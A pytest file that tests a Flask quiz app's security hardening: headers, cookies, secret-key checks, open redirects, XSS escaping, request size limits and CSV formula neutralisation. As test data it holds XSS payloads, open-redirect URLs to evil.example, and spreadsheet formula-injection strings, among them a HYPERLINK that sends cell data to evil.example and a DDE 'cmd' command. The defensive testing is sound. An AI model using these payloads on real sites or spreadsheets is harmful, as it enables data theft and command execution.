"""Security hardening, one test per promise: headers on every response, the session cookie,
no start without a real SECRET_KEY, no open redirect, no script from instructor text on the
report, and a request size limit that stores nothing.

Escaping on the instructor pages and the taker's section page is tested in
tests/web/instructor/test_escaping.py, and the login `next` checks in tests/web/auth/test_auth.py;
this file covers what those leave out.
"""

from __future__ import annotations

import csv
import io
import os
import re
import sqlite3
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from sqlalchemy import func, select
from werkzeug.security import generate_password_hash

from devserver.live_server import free_port
from quiz import create_app
from quiz.domain import audio
from quiz.domain.question_types.question import Option, Question
from quiz.domain.question_types.self_rating import scale_options
from quiz.platform import models, safe_csv
from quiz.platform.extensions import db
from quiz.platform.security import PUBLIC_ENDPOINTS
from quiz.platform.stores import bank as bank_store
from tests.apps import startup_refusal
from tests.csv_files import rows_by_id
from tests.factories import best_option
from tests.takers import Taker, csrf_from, form_token

ROOT = Path(__file__).resolve().parents[2]
STRONG_KEY = "9f2c4e6a8b0d1f3e5a7c9e1b3d5f7a9c0e2d4b6f8a1c3e5d7b9f0a2c4e6d8b1f3a"
EMAIL, PASSWORD = "security@example.org", "correct horse battery"


def count(app, model) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model))


@pytest.fixture
def instructor(app):
    with app.app_context():
        db.session.add(models.Instructor(
            email=EMAIL, password_hash=generate_password_hash(PASSWORD, "pbkdf2:sha256:1000")))
        db.session.commit()


def sign_in(client, next_url=None):
    token = form_token(client, "/instructor/login")
    return client.post("/instructor/login", query_string={"next": next_url} if next_url else None,
                       data={"email": EMAIL, "password": PASSWORD, "csrf_token": token})


@pytest.fixture
def finished(client, app):
    taker = Taker(client, app)
    taker.start()
    taker.answer_all(best_option)
    assert taker.finish().status_code == 303
    return taker


# --- headers ---------------------------------------------------------------------------------

def assert_security_headers(response, private: bool = True) -> None:
    headers = response.headers
    csp = {d.split()[0]: d.split()[1:] for d in headers["Content-Security-Policy"].split("; ")}
    assert csp["default-src"] == ["'self'"]
    assert csp["script-src"] == ["'self'"]  # no 'unsafe-inline', no 'unsafe-eval', no hosts
    assert csp["style-src"] == ["'self'"]
    assert csp["frame-ancestors"] == ["'none'"]
    assert csp["object-src"] == ["'none'"] and csp["base-uri"] == ["'none'"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    # Tokens in URLs never leave the site; same-origin referers stay (the CSRF check needs them).
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["X-Frame-Options"] == "DENY"
    assert "Strict-Transport-Security" not in headers  # the test client speaks plain http
    if private:
        assert headers["Cache-Control"] == "no-store"
    else:
        assert "no-store" not in headers.get("Cache-Control", "")


@pytest.mark.parametrize("method, url, status", [
    ("GET", "/", 200),
    ("GET", "/instructor/login", 200),
    ("GET", "/no/such/page", 404),
    ("GET", "/a/not-a-real-token-but-long-enough/section/1", 404),
    ("GET", "/report/not-a-real-token-but-long-enough.json", 404),
    ("POST", "/start", 400),  # no CSRF token
    ("GET", "/start", 405),
    ("GET", "/instructor/", 302),
    ("GET", "/instructor/statistics", 302),
])
def test_every_response_has_the_security_headers(client, method, url, status):
    response = client.open(url, method=method)
    assert response.status_code == status
    assert_security_headers(response)


@pytest.mark.parametrize("url, status", [
    ("/static/style.css", 200), ("/static/favicon.svg", 200), ("/static/no-such-file.css", 404)])
def test_static_files_may_be_cached(client, url, status):
    response = client.get(url)
    assert response.status_code == status
    assert_security_headers(response, private=False)


def test_the_quiz_and_report_pages_have_the_security_headers(client, app, finished):
    taker = Taker(client, app)  # one attempt still being taken, one finished
    taker.start()
    token = finished.token
    for url in (f"/a/{taker.token}", f"/a/{taker.token}/section/1", f"/a/{taker.token}/review",
                f"/a/{taker.token}/saved", f"/a/{token}", f"/report/{token}",
                f"/report/{token}.json", f"/report/{token}.csv"):
        response = client.get(url)
        assert response.status_code in (200, 302), url
        assert_security_headers(response)


def test_instructor_pages_have_the_security_headers(client, instructor):
    assert_security_headers(sign_in(client))
    for url in ("/instructor/", "/instructor/statistics", "/instructor/bank",
                "/instructor/questions/new", "/instructor/attempts.csv",
                "/instructor/bank/export.zip"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_security_headers(response)


# A value for each URL variable of the app's routes; a route with a new variable fails the
# test below until it is given one here, so no future page escapes the check.
SAMPLE_VALUES = {"number": 1, "question_id": "tech-rate-vocal-session", "name": audio.level_check_clip().name}


def test_no_page_but_the_static_files_may_be_stored(app, client, instructor, finished):
    """Walks every GET route there is, signed in, so a route added later is checked too. The
    generated clips are the one exception: named by a hash of their bytes, they never change."""
    sign_in(client)
    with app.app_context():
        owner = db.session.scalar(select(models.Instructor))
        group = models.Group(name="Tuesday class", owner_id=owner.id)
        db.session.add(group)
        db.session.commit()
        group_id, join_token = group.id, group.join_token
    values = {**SAMPLE_VALUES, "token": finished.token, "group_id": group_id}
    # A group's CSV waits for enough finished takers (409); it is still a private download.
    refused = {"groups.export": 409}
    checked = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint.endswith("static"):
            continue
        missing = rule.arguments - values.keys()
        assert not missing, f"give {rule.rule} sample values for {sorted(missing)} in SAMPLE_VALUES"
        url = rule.build({**{name: values[name] for name in rule.arguments},
                          **({"token": join_token} if rule.endpoint == "join.link" else {})})[1]
        response = client.get(url)
        expected = refused.get(rule.endpoint)
        assert response.status_code == expected if expected else response.status_code < 400, url
        kept = "public, max-age=31536000, immutable" if rule.endpoint in PUBLIC_ENDPOINTS else "no-store"
        assert response.headers["Cache-Control"] == kept, url
        checked.append(rule.endpoint)
    assert {"report.show", "report.download_csv", "taking.section", "instructor.export_attempts",
            "instructor.questions", "auth.login", "groups.show", "groups.export", "join.link",
            "audio.clip"} <= set(checked)
    assert PUBLIC_ENDPOINTS == {"audio.clip"}


def test_strict_transport_security_over_https_only(client):
    assert "Strict-Transport-Security" not in client.get("/").headers
    hsts = client.get("/", base_url="https://quiz.test").headers["Strict-Transport-Security"]
    assert hsts.startswith("max-age=") and int(hsts.split("=")[1].split(";")[0]) >= 365 * 24 * 3600


@pytest.mark.parametrize("trusted_proxies, forwarded_proto, expected", [
    (1, "https", True), (1, "http", False), (0, "https", False)])
def test_strict_transport_security_behind_a_proxy(production_app, monkeypatch, trusted_proxies,
                                                  forwarded_proto, expected):
    """Only a trusted proxy's word that the request came over https counts."""
    monkeypatch.setenv("TRUSTED_PROXIES", str(trusted_proxies))
    app = create_app({"SQLALCHEMY_DATABASE_URI": production_app.config["SQLALCHEMY_DATABASE_URI"]})
    response = app.test_client().get("/", base_url="http://quiz.test", headers={"X-Forwarded-Proto": forwarded_proto})
    assert ("Strict-Transport-Security" in response.headers) == expected


@pytest.mark.parametrize("url, allowed", [("/start", {"POST"}), ("/instructor/logout", {"POST"}),
                                          ("/a/not-a-real-token-but-long-enough/finish", {"POST"})])
def test_method_not_allowed_says_what_is_allowed(client, url, allowed):
    response = client.get(url)
    assert response.status_code == 405
    assert "This page cannot be used that way." in response.get_data(as_text=True)
    assert set(response.headers["Allow"].split(", ")) - {"OPTIONS"} == allowed


def test_server_errors_have_the_security_headers(app, client):
    @app.get("/boom")
    def boom():
        raise RuntimeError("boom")

    app.testing = False  # let the 500 handler answer instead of re-raising
    app.config["PROPAGATE_EXCEPTIONS"] = False
    response = client.get("/boom")
    assert response.status_code == 500
    assert_security_headers(response)


TEMPLATES = sorted((ROOT / "quiz").rglob("templates/**/*.html"))


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda p: str(p.relative_to(ROOT / "quiz")))
def test_templates_need_nothing_the_policy_forbids(template):
    """Inline scripts, event handler attributes and style attributes would be blocked by
    the Content-Security-Policy: the page would silently break, so none may exist."""
    html = template.read_text()
    assert not re.search(r"<script(?![^>]*\bsrc=)", html, re.I), "inline <script>"
    assert not re.search(r"\son[a-z]+\s*=", html, re.I), "event handler attribute"
    assert not re.search(r"\sstyle\s*=", html, re.I), "style attribute"
    assert not re.search(r"<style", html, re.I), "<style> element"
    assert not re.search(r"javascript:", html, re.I), "javascript: URL"


# --- the session cookie ----------------------------------------------------------------------

def session_cookie(response) -> str:
    cookies = [c for c in response.headers.getlist("Set-Cookie") if c.startswith("session=")]
    assert cookies, "no session cookie was set"
    return cookies[0]


def test_session_cookie_is_httponly_and_lax(client):
    cookie = session_cookie(client.get("/"))  # the start page puts a CSRF token in the session
    assert "; HttpOnly" in cookie
    assert "; SameSite=Lax" in cookie


@pytest.fixture
def production_app(tmp_path, monkeypatch, real_bank):
    """The app as gunicorn builds it: not debug, not testing, settings from the environment."""
    for name in ("SESSION_COOKIE_SECURE", "FLASK_DEBUG", "MAX_CONTENT_LENGTH"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SECRET_KEY", STRONG_KEY)
    monkeypatch.setenv("PUBLIC_URL", "https://quiz.test")
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'prod.sqlite3'}")
    app = create_app()
    assert not app.debug and not app.testing
    with app.app_context():
        db.create_all()
        bank_store.save_bank(real_bank)
    yield app
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def test_session_cookie_is_secure_in_production(production_app):
    cookie = session_cookie(production_app.test_client().get("/", base_url="https://quiz.test"))
    assert "; Secure" in cookie and "; HttpOnly" in cookie and "; SameSite=Lax" in cookie
    assert production_app.config["SESSION_COOKIE_SECURE"] is True
    assert production_app.config["REMEMBER_COOKIE_HTTPONLY"] is True


def test_session_cookie_secure_can_be_turned_off_for_local_http(monkeypatch, production_app):
    monkeypatch.setenv("SESSION_COOKIE_SECURE", "0")
    app = create_app({"SQLALCHEMY_DATABASE_URI": production_app.config["SQLALCHEMY_DATABASE_URI"]})
    assert app.config["SESSION_COOKIE_SECURE"] is False
    assert "; Secure" not in session_cookie(app.test_client().get("/", base_url="http://quiz.test"))


def test_session_cookie_is_not_secure_when_testing(app):
    assert app.config["SESSION_COOKIE_SECURE"] is False  # the test client speaks plain http


@pytest.mark.parametrize("referer", ["https://quiz.test:port.evil.example/", "https://quiz.test:99999/",
                                     "https://[::1/", "https://quiz.test:-1/"])
def test_a_malformed_referer_over_https_is_refused_with_400(client, referer):
    """Flask-WTF's same-origin check raises ValueError on a port it cannot read: the app
    refuses such a Referer on the CSRF path first, and the form is not taken (issue 20)."""
    token = csrf_from(client.get("/", base_url="https://quiz.test").get_data(as_text=True))
    response = client.post("/start", base_url="https://quiz.test", headers={"Referer": referer},
                           data={"csrf_token": token})
    assert response.status_code == 400
    assert "The form could not be read" in response.get_data(as_text=True)
    same_origin = client.post("/start", base_url="https://quiz.test",
                              headers={"Referer": "https://quiz.test/"}, data={"csrf_token": token})
    assert same_origin.status_code == 303


# --- the secret key --------------------------------------------------------------------------

@pytest.mark.parametrize("key, reason", [
    (None, "SECRET_KEY is missing"),
    ("", "SECRET_KEY is set but empty"),
])
def test_production_refuses_to_start_without_a_secret_key(tmp_path, capsys, key, reason):
    """How weak keys are refused: tests/platform/test_secret_key.py."""
    line = startup_refusal(capsys, {"SECRET_KEY": key, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
    assert reason in line and "secrets.token_hex(32)" in line


def test_an_empty_secret_key_variable_is_an_error_not_a_fall_back(tmp_path, capsys, monkeypatch):
    """Not even in testing mode, and not to the instance/secret_key file `make run` writes."""
    monkeypatch.setenv("SECRET_KEY", "")
    line = startup_refusal(capsys, {"TESTING": True, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
    assert "SECRET_KEY is set but empty" in line


@pytest.mark.parametrize("mode", [{"TESTING": True}, {"DEBUG": True}])
def test_debug_and_testing_start_with_any_key(tmp_path, mode):
    app = create_app({**mode, "SECRET_KEY": "dev",
                      "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
    assert app.config["SECRET_KEY"] == "dev"


def test_testing_without_a_key_gets_a_random_one(tmp_path):
    app = create_app({"TESTING": True, "SECRET_KEY": None,
                      "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
    assert len(app.config["SECRET_KEY"]) >= 32


def create_app_in_a_new_process(env: dict, *prefix: str) -> subprocess.CompletedProcess:
    """What gunicorn does: `create_app()` in a fresh process, settings from `env` only."""
    return subprocess.run([*prefix, sys.executable, "-c", "from quiz import create_app; create_app()"],
                          cwd=ROOT, env={"PATH": "/usr/bin:/bin", "PUBLIC_URL": "https://quiz.example.org", **env},
                          capture_output=True,
                          text=True, timeout=60)


@pytest.mark.parametrize("key, refused", [("", True), ("dev", True), ("changeme" * 4, True),
                                          (STRONG_KEY, False)])
def test_the_server_process_refuses_a_weak_key_in_one_line(tmp_path, key, refused):
    done = create_app_in_a_new_process({"SECRET_KEY": key,
                                        "DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"})
    assert done.returncode == (3 if refused else 0), done.stderr
    if refused:
        assert done.stderr.startswith("Error: SECRET_KEY is") and done.stderr.count("\n") == 1


# --- redirects -------------------------------------------------------------------------------

def browser_target(location: str) -> tuple[str, str]:
    """Scheme and host a browser would go to: it drops tabs and newlines anywhere and
    treats a backslash like a slash."""
    cleaned = re.sub(r"[\t\r\n]", "", location).replace("\\", "/").strip()
    parts = urlsplit(cleaned)
    return parts.scheme, parts.netloc


@pytest.mark.parametrize("target", [
    "///evil.example", "////evil.example", "/\t/evil.example", "/\r\n/evil.example",
    "https:/evil.example", "https:evil.example", " //evil.example", "\t//evil.example",
    "/.//evil.example", "//evil.example/instructor/", "http://quiz.test.evil.example/",
    "data:text/html,<script>alert(1)</script>", "/%2F/evil.example",
])
def test_sign_in_never_redirects_off_the_site(client, instructor, target):
    response = sign_in(client, next_url=target)
    assert response.status_code == 302
    scheme, host = browser_target(response.headers["Location"])
    assert scheme in ("", "http") and host in ("", "quiz.test"), response.headers["Location"]


def test_every_redirect_of_the_taking_flow_stays_on_the_site(client, app):
    taker = Taker(client, app)
    taker.start()
    locations = [taker.submit(s.number, {}, button=b).headers["Location"]
                 for s in taker.sections() for b in ("next", "previous", "later")]
    locations.append(client.get(f"/a/{taker.token}").headers["Location"])
    for location in locations:
        assert browser_target(location) in (("", ""), ("http", "quiz.test")), location


# --- instructor text on the report -----------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"


def test_instructor_text_cannot_inject_script_into_the_report(app, client):
    """The report repeats question prompts, labels, options and feedback (gaps, scenarios to
    revisit, answers left out of the scores): all of it must come out as text. (Skipped
    questions are only counted, not listed.)"""
    hostile = Question(
        id="tech-scn-hostile", area="technical", type="single_choice",
        prompt=f"Pick one {SCRIPT}", topics=("skill-technical",), feedback=f"Feedback {IMAGE}",
        options=(Option("a", f"Right {IMAGE}", 3, f"Good {SCRIPT}"),
                 Option("b", f"Wrong {SCRIPT}", 0, f"Bad {IMAGE}")))
    not_yet = Question(id="tech-rate-not-yet", area="technical", type="self_rating",
                       prompt="I have done this.", label=f"Not yet {IMAGE}", topics=("skill-technical",),
                       scale="frequency", needs_experience=True,
                       options=scale_options(False, "frequency", needs_experience=True))
    with app.app_context():
        bank_store.save_question(hostile)
        bank_store.save_question(not_yet)
        db.session.commit()
    taker = Taker(client, app)
    taker.start()
    taker.answer_all(lambda q: ["not-yet"] if q.id == not_yet.id else (
        ["b"] if q.id == hostile.id else best_option(q)))
    taker.finish()
    html = client.get(f"/report/{taker.token}").get_data(as_text=True)
    assert "Pick one &lt;script&gt;" in html and "Not yet &lt;img" in html  # the prompt; the label
    assert "Wrong &lt;script&gt;" in html  # the wrong choice is shown under scenarios to revisit
    assert SCRIPT not in html and IMAGE not in html
    # the page's own scripts only, each a file of the app's
    assert re.findall(r"<script[^>]*>", html, re.I) == re.findall(r'<script src="/static/[\w./-]+" defer>', html)
    assert "<img" not in html.lower()
    assert not re.search(r"<[^>]+\son\w+=", html), "an event handler attribute got through"


# --- request size ----------------------------------------------------------------------------

def test_a_request_size_limit_is_set_by_default_and_from_the_environment(monkeypatch, tmp_path):
    url = f"sqlite:///{tmp_path / 'x.db'}"
    monkeypatch.delenv("MAX_CONTENT_LENGTH", raising=False)
    settings = {"TESTING": True, "SQLALCHEMY_DATABASE_URI": url}
    assert create_app(settings).config["MAX_CONTENT_LENGTH"] == 256 * 1024
    monkeypatch.setenv("MAX_CONTENT_LENGTH", "5000")
    assert create_app(settings).config["MAX_CONTENT_LENGTH"] == 5000


def too_big(app) -> str:
    return "x" * (app.config["MAX_CONTENT_LENGTH"] + 1)


def test_oversize_start_is_413_and_creates_no_attempt(app, client):
    token = form_token(client, "/")
    response = client.post("/start", data={"csrf_token": token, "padding": too_big(app)})
    assert response.status_code == 413
    assert "Too much data" in response.get_data(as_text=True)
    assert_security_headers(response)
    assert count(app, models.Attempt) == 0


def test_oversize_sign_in_is_413_and_signs_nobody_in(app, client, instructor):
    token = form_token(client, "/instructor/login")
    response = client.post("/instructor/login", data={
        "email": EMAIL, "password": PASSWORD, "csrf_token": token, "padding": too_big(app)})
    assert response.status_code == 413
    assert client.get("/instructor/").status_code == 302
    assert count(app, models.ThrottleSlot) == 0


def test_oversize_upload_is_413_and_imports_nothing(app, client, instructor):
    sign_in(client)
    token = form_token(client, "/instructor/bank")
    versions = count(app, models.QuestionVersion)
    upload = (io.BytesIO(b"# " + too_big(app).encode()), "bank.zip")
    response = client.post("/instructor/bank/import", data={"csrf_token": token, "files": upload},
                           content_type="multipart/form-data")
    assert response.status_code == 413
    assert count(app, models.QuestionVersion) == versions


def chunked(body: bytes) -> dict:
    """The environ gunicorn gives a chunked request: no Content-Length, a terminated input."""
    return {"wsgi.input": io.BytesIO(body), "wsgi.input_terminated": True,
            "HTTP_TRANSFER_ENCODING": "chunked", "CONTENT_TYPE": "application/x-www-form-urlencoded"}


def test_oversize_chunked_body_is_413_not_cut_short(app, client):
    """Werkzeug alone would cut such a body off at the limit and process the rest."""
    taker = Taker(client, app)
    taker.start()
    question = taker.sections()[0].questions[0]
    answer = f"csrf_token={taker.csrf(1)}&next=1&q-{question.id}={question.options[0].id}"
    response = client.post(taker.section_url(1), environ_overrides=chunked(
        f"{answer}&padding={too_big(app)}".encode()))
    assert response.status_code == 413
    assert taker.stored() == {}
    response = client.post(taker.section_url(1), environ_overrides=chunked(answer.encode()))
    assert response.status_code == 303
    assert taker.stored() == {question.id: [question.options[0].id]}


# --- CSV downloads and spreadsheet formulas --------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_neutralised_and_numbers_stay_numbers(text):
    out = io.StringIO()
    safe_csv.Writer(out).writerow([text, -12, 3.5, "plain", "a=1", None])
    # A tab or carriage return also separates cells: the formula after it is defused too.
    written = "'" + text.replace("\t=", "\t'=").replace("\r=", "\r'=")
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written, "-12", "3.5", "plain", "a=1", ""]


def formula_cells(body: str, delimiter: str) -> list[str]:
    """Cells a spreadsheet splitting `body` on `delimiter` would run as formulas: text starting
    with = + - @ (after spaces); a plain number such as -12 is a number, not a formula."""
    found = []
    for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter):
        for cell in row:
            try:
                float(cell)
            except ValueError:
                if cell.lstrip(" ").startswith(("=", "+", "-", "@")):
                    found.append(cell)
    return found


HIDDEN_FORMULAS = ["x;=1+1;y", "x,=1+1,y", "x\t=1+1", "a;-2+3", "a, @SUM(A1)", 'a;"=1+1"', "a\n=1+1",
                   "a\r\n+1", 'x;""=2+2', "ok; fine", "=1;+2,-3\t@4"]


@pytest.mark.parametrize("text", HIDDEN_FORMULAS)
def test_no_separator_inside_a_cell_starts_a_formula_whatever_the_spreadsheet_splits_on(text):
    """A spreadsheet may split a CSV on ';' or a tab instead of ','; what follows such a
    separator inside a cell must not start a formula there, in any column (issue 20)."""
    out = io.StringIO()
    writer = safe_csv.Writer(out, lineterminator="\r\n")
    writer.writerow([text, -12, text, 3.5, text])
    writer.writerow(["7", text])
    body = out.getvalue()
    for delimiter in (",", ";", "\t"):
        assert formula_cells(body, delimiter) == [], (delimiter, body)
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[0][1] == "-12" and rows[1][0] == "7"  # numbers stay numbers
    assert rows[1][1].replace("'", "") == text  # the text itself is all there


def test_the_takers_csv_neutralises_formulas_in_bank_text(app, client, real_bank):
    """Area titles come from whoever maintains the bank; a spreadsheet must show them as text."""
    hostile = FORMULAS[0]
    areas = tuple(replace(a, title=hostile) if a.key == "technical" else a for a in real_bank.areas)
    with app.app_context():
        bank_store.save_bank(replace(real_bank, areas=areas))
    taker = Taker(client, app)
    taker.start()
    taker.answer_all(best_option)
    taker.finish()
    rows = list(csv.DictReader(io.StringIO(client.get(f"/report/{taker.token}.csv").get_data(as_text=True))))
    assert {r["area"]: r["title"] for r in rows}["technical"] == "'" + hostile


def test_attempts_csv_neutralises_formulas_in_stored_answers(app, client, instructor):
    """Stored option ids are checked on the way in; the CSV does not rely on that."""
    with app.app_context():
        bank = bank_store.current_bank()
        question = bank.questions[0]
        attempt = models.Attempt(version_ids=[q.version_id for q in bank.questions],
                                 finished_at=models.utcnow())
        db.session.add(attempt)
        db.session.flush()
        db.session.add(models.Answer(attempt_id=attempt.id, question_id=question.id,
                                     version_id=question.version_id, option_ids=["=1+2"]))
        db.session.commit()
    sign_in(client)
    rows = rows_by_id(client.get("/instructor/attempts.csv").get_data(as_text=True))
    assert rows[0][question.id] == "'=1+2"


# --- start-up checks -------------------------------------------------------------------------

# Root may write any file: these tests drop the capabilities that let it, so modes count.
AS_AN_ORDINARY_USER = (("setpriv", "--bounding-set", "-dac_override,-dac_read_search,-fowner")
                       if os.geteuid() == 0 else ())


@pytest.fixture
def read_only_database(tmp_path):
    folder = tmp_path / "data"
    folder.mkdir()
    database = folder / "quiz.sqlite3"
    sqlite3.connect(database).close()
    database.chmod(0o444)
    yield database
    database.chmod(0o644)
    folder.chmod(0o755)


def test_an_unwritable_database_file_stops_start_up_in_one_line(read_only_database):
    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
                                        "DATABASE_URL": f"sqlite:///{read_only_database}"},
                                       *AS_AN_ORDINARY_USER)
    assert done.returncode == 3
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr, done.stderr
    assert done.stderr.startswith(f"Error: The database file {read_only_database} is not writable by ")
    assert "chown or chmod" in done.stderr and "DATABASE_URL" in done.stderr


def test_an_unwritable_database_folder_stops_start_up_in_one_line(read_only_database):
    read_only_database.chmod(0o644)
    read_only_database.parent.chmod(0o555)  # SQLite could not write its -wal and -shm files
    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
                                        "DATABASE_URL": f"sqlite:///{read_only_database}"},
                                       *AS_AN_ORDINARY_USER)
    assert done.returncode == 3, done.stderr
    assert done.stderr.startswith(f"Error: The database folder {read_only_database.parent} is not "
                                  "writable by "), done.stderr


def test_gunicorn_stops_at_once_on_an_unwritable_database(read_only_database):
    """No worker restarting in a loop, no 500 on the first request: gunicorn exits, and the
    line that says why is in its output."""
    env = {"PATH": "/usr/bin:/bin", "SECRET_KEY": STRONG_KEY,
           "DATABASE_URL": f"sqlite:///{read_only_database}"}
    done = subprocess.run([*AS_AN_ORDINARY_USER, sys.executable, "-m", "gunicorn", "-w", "2",
                           "-b", f"127.0.0.1:{free_port()}", "quiz:create_app()"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode != 0
    assert f"Error: The database file {read_only_database} is not writable" in done.stderr
    # No traceback through the app's code (gunicorn may print its own while halting).
    assert not re.search(r'File "[^"]*/quiz/', done.stderr), done.stderr


def test_a_writable_database_starts(tmp_path):
    done = create_app_in_a_new_process({"SECRET_KEY": STRONG_KEY,
                                        "DATABASE_URL": f"sqlite:///{tmp_path / 'quiz.sqlite3'}"},
                                       *AS_AN_ORDINARY_USER)
    assert done.returncode == 0, done.stderr
